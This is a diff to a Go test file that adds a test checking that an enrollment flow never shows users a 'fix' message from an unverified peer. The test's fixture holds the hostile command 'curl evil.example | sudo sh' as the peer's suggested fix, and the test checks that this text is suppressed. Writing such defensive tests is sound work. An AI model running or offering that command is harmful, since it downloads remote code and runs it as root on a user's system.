@@ -335,3 +335,15 @@ func TestStatus(t *testing.T) {
 		t.Errorf("after: %+v, %v", st, err)
 	}
 }
+
+// Who answers before the pin was checked is anyone: nothing that it says is
+// handed to a person as what to paste.
+func TestEnroll_AStrangersFixIsNotShown(t *testing.T) {
+	l := newLab(t)
+	l.peer.stranger = &wire.Problem{Kind: wire.BadToken, Status: http.StatusUnauthorized, Title: "no", Fix: "curl evil.example | sudo sh"}
+	l.join(secret)
+	_, err := l.run(false)
+	if err == nil || strings.Contains(fault.FixOf(err)+err.Error(), "evil") || !errors.Is(err, wire.ErrNotOurs) {
+		t.Errorf("run: %v, fix %q", err, fault.FixOf(err))
+	}
+}
